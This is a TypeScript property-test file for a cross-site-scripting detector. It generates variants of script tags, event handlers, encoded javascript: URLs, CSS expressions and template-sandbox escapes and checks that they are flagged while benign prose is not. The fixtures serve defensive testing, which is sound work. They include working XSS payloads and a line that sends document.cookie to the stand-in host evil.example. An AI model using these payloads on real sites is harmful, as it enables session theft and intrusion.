// Property tests per technique (TECHNIQUES.md): generated variants of each technique (case,
// character references, whitespace and controls inside schemes, quoting, separators, string
// concatenation, breakout contexts) must fire; hard benign text (prose with < and >, harmless
// markup, code, non-Latin text) must not; and any string at all is read without throwing, fast.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { analyzeValue, type FindingKind } from "./analyze.ts";
import { decodeAttributeRefs } from "./char-refs.ts";
import { tokenize } from "./tokenizer.ts";

const kinds = (value: string) => Object.keys(analyzeValue(value.toLowerCase())) as FindingKind[];
const fires = (kind: FindingKind) => (value: string) => {
  expect(kinds(value)).toContain(kind);
};

/** Random upper/lower case of each letter. */
const anyCase = (text: string) =>
  fc
    .array(fc.boolean(), { minLength: text.length, maxLength: text.length })
    .map((flips) => [...text].map((c, i) => (flips[i] ? c.toUpperCase() : c)).join(""));
/** A character as the browser's attribute decoder reads it: itself, or a decimal/hex reference, with or without ";", padded with zeros. */
const asReference = (c: string) =>
  fc.oneof(
    fc.constant(c),
    fc.nat(4).map((zeros) => `&#${"0".repeat(zeros)}${c.charCodeAt(0)};`),
    fc.nat(4).map((zeros) => `&#x${"0".repeat(zeros)}${c.charCodeAt(0).toString(16)};`),
  );
const encoded = (text: string) => fc.tuple(...[...text].map(asReference)).map((parts) => parts.join(""));
const separator = fc.constantFrom(" ", "/", "\t", "\n", "  ");
const quote = fc.constantFrom('"', "'", "");
const handlerName = fc.stringMatching(/^[a-z]{3,12}$/).map((n) => `on${n}`);
const dialog = fc.constantFrom(
  "alert(1)",
  "prompt`x`",
  "confirm(document.domain)",
  "alert(String.fromCharCode(88,83,83))",
);
const tagName = fc.constantFrom("img", "svg", "body", "x", "details", "video", "a", "custom-el");

describe("HTML tokenizer", () => {
  it("reads a tag only after '<' and a letter", () => {
    expect(tokenize("a < b <3 <= c").every((t) => t.kind === "text")).toBe(true);
    expect(tokenize("<img/src=x>")[0]).toMatchObject({ kind: "start", name: "img", attributes: [{ name: "src" }] });
  });
  it("needs no separator after a quoted value", () => {
    const [tag] = tokenize('<a href="x"onclick=y>');
    expect(tag).toMatchObject({ attributes: [{ name: "href" }, { name: "onclick", raw: "y" }] });
  });
  it("keeps a script element's content as text up to its own end tag", () => {
    const tokens = tokenize("<script>if (a<b) x='</scripty>'</script><b>");
    expect(tokens[1]).toMatchObject({ kind: "text", of: "script", text: "if (a<b) x='</scripty>'" });
  });
  it("decodes character references in attribute values as a browser does", () => {
    expect(decodeAttributeRefs("jav&#x61;script&colon;a&#40;1&#0000041")).toBe("javascript:a(1)");
    expect(decodeAttributeRefs("?a=1&copy=2&lt")).toBe("?a=1&copy=2<");
  });
});

describe("techniques fire on their variants", () => {
  it("script element (T1)", () =>
    fc.assert(
      fc.property(anyCase("script"), dialog, fc.constantFrom("", "x:", "svg:"), (name, code, prefix) =>
        fires("script-element")(`<${prefix}${name}>${code}</${prefix}${name}>`),
      ),
    ));
  it("event handler on any element, any handler name (T2)", () =>
    fc.assert(
      fc.property(tagName, separator, handlerName, quote, dialog, (tag, sep, on, q, code) =>
        fires("event-handler")(`<${tag}${sep}${on}=${q}${code}${q}>`),
      ),
    ));
  it("attribute breakout: a quote then a handler (T3)", () =>
    fc.assert(
      fc.property(fc.constantFrom('"', "'"), fc.constantFrom(" ", "/", ""), handlerName, dialog, (q, sep, on, code) =>
        fires("event-handler")(`x${q}${sep}${on}=${code} y=${q}`),
      ),
    ));
  it("script URL in any attribute, with references, controls and case (T4)", () =>
    fc.assert(
      fc.property(
        fc.constantFrom("href", "src", "action", "formaction", "data", "xlink:href"),
        anyCase("javascript"),
        fc.constantFrom("", "\t", "\n", "&#9;", "&tab;"),
        dialog,
        (attr, scheme, gap, code) =>
          fc.assert(
            fc.property(encoded(":"), (colon) =>
              fires("script-url")(`<a ${attr}="${scheme.slice(0, 4)}${gap}${scheme.slice(4)}${colon}${code}">x</a>`),
            ),
            { numRuns: 3 },
          ),
      ),
    ));
  it("data: URLs of an active type (T4)", () =>
    fc.assert(
      fc.property(fc.constantFrom("text/html", "image/svg+xml", "text/html;base64"), (type) =>
        fires("script-url")(`<iframe src="data:${type},PHNjcmlwdD4">`),
      ),
    ));
  it("a value that is itself a script URL (T4)", () =>
    fc.assert(
      fc.property(anyCase("javascript:"), dialog, (scheme, code) => fires("script-url")(`  ${scheme}${code}`)),
    ));
  it("elements that load active content (T5)", () =>
    fc.assert(
      fc.property(
        fc.constantFrom(
          '<iframe src="//evil.example">',
          '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
          '<object data="x.swf">',
          '<base href="//evil.example/">',
          '<meta http-equiv="refresh" content="0;url=//evil.example">',
          '<form action="//evil.example"><input>',
          '<svg><animate attributeName="href" values="x">',
          '<link rel="import" href="x.html">',
        ),
        (markup) => fires("active-element")(markup),
      ),
    ));
  it("CSS that runs script, with CSS escapes and comments (T6)", () =>
    fc.assert(
      fc.property(
        fc.constantFrom(
          "expression(alert(1))",
          "\\65 xpression(alert(1))",
          "exp/**/ression(alert(1))",
          "url(javascript:alert(1))",
        ),
        (css) => fires("css-script")(`<div style="width:${css}">`),
      ),
    ));
  it("client-side template expressions (T7)", () =>
    fc.assert(
      fc.property(
        fc.constantFrom(
          "constructor.constructor('alert(1)')()",
          "$on.constructor('alert(1)')()",
          "_c.constructor`x`()",
        ),
        fc.constantFrom("", " "),
        (expr, pad) => fires("template-expression")(`{{${pad}${expr}${pad}}}`),
      ),
    ));
  it("JavaScript string breakout and script sinks (T8)", () =>
    fc.assert(
      fc.property(
        fc.constantFrom("'", '"', ""),
        fc.constantFrom("-", "+", ";", "*", "||"),
        fc.constantFrom(
          "alert(1)",
          "top['al'+'ert'](1)",
          "fetch('//evil.example/'+document.cookie)",
          "setTimeout('x()',1)",
          "eval(name)",
        ),
        (q, op, code) => fires("script-sink")(`${q}${op}${code}${op}${q}`),
      ),
    ));
});

describe("hard benign text stays quiet", () => {
  const BENIGN = [
    "if a < b and b > c then a < c",
    "I <3 this, 10/10 would buy again",
    "<b>bold</b> and <i>italic</i>, <p>paragraph</p>",
    '<a href="https://example.com/page?x=1&y=2">link</a>',
    "Please confirm (by Friday) that you can attend.",
    "Use the <script> tag to include JavaScript.",
    "What is document.cookie used for?",
    "javascript: the good parts",
    "The function setTimeout(fn, 100) delays a call",
    "print(hello) in python",
    "=SUM(A1:A10)",
    "{{ user.name }} logged in",
    "Привет, как дела? <Иван> (ок)",
    "東京都 (しぶや) 「こんにちは」",
    "arr[0] = value; map[key] = other",
    '{"name": "Ana", "tags": ["a"], "n": 3}',
    "onclick handlers are bad practice; onload = true in the config",
  ];
  it.each(BENIGN)("%s", (text) => expect(kinds(text)).toEqual([]));
  it("prose words and punctuation never fire", () =>
    fc.assert(
      fc.property(
        fc.array(
          fc.constantFrom(
            "the",
            "a",
            "<",
            ">",
            "if",
            "b",
            "and",
            "(",
            ")",
            ",",
            ".",
            "3",
            "alert",
            "is",
            "on",
            "script",
            "'s",
          ),
          { maxLength: 12 },
        ),
        (words) => {
          const text = words.join(" ");
          // Only the grammar's own verdict: a dialog call needs an operator before it, an element a letter after "<".
          if (/alert \(|[(,] alert [,)]|< script|< [a-z]/.test(text)) return;
          expect(kinds(text)).toEqual([]);
        },
      ),
    ));
});

describe("any input", () => {
  it("never throws", () =>
    fc.assert(fc.property(fc.string({ unit: "binary", maxLength: 400 }), (s) => void analyzeValue(s.toLowerCase()))));
  it("never throws on markup-shaped noise", () =>
    fc.assert(
      fc.property(
        fc.array(
          fc.constantFrom("<", ">", "'", '"', "=", "on", "x", "/", "script", "(", ")", "`", "{{", "&#", ":", " "),
          { maxLength: 80 },
        ),
        (parts) => void analyzeValue(parts.join("")),
      ),
    ));
  it("stays linear on long hostile input", () => {
    for (const unit of ["<a ", "<script>", "((((", "'\"", "{{", "a.b[", "on=", "&#", "javascript:", "/*", "`${"]) {
      const text = unit.repeat(Math.ceil(16_000 / unit.length));
      const start = performance.now();
      analyzeValue(text);
      expect(performance.now() - start).toBeLessThan(1000);
    }
  });
});
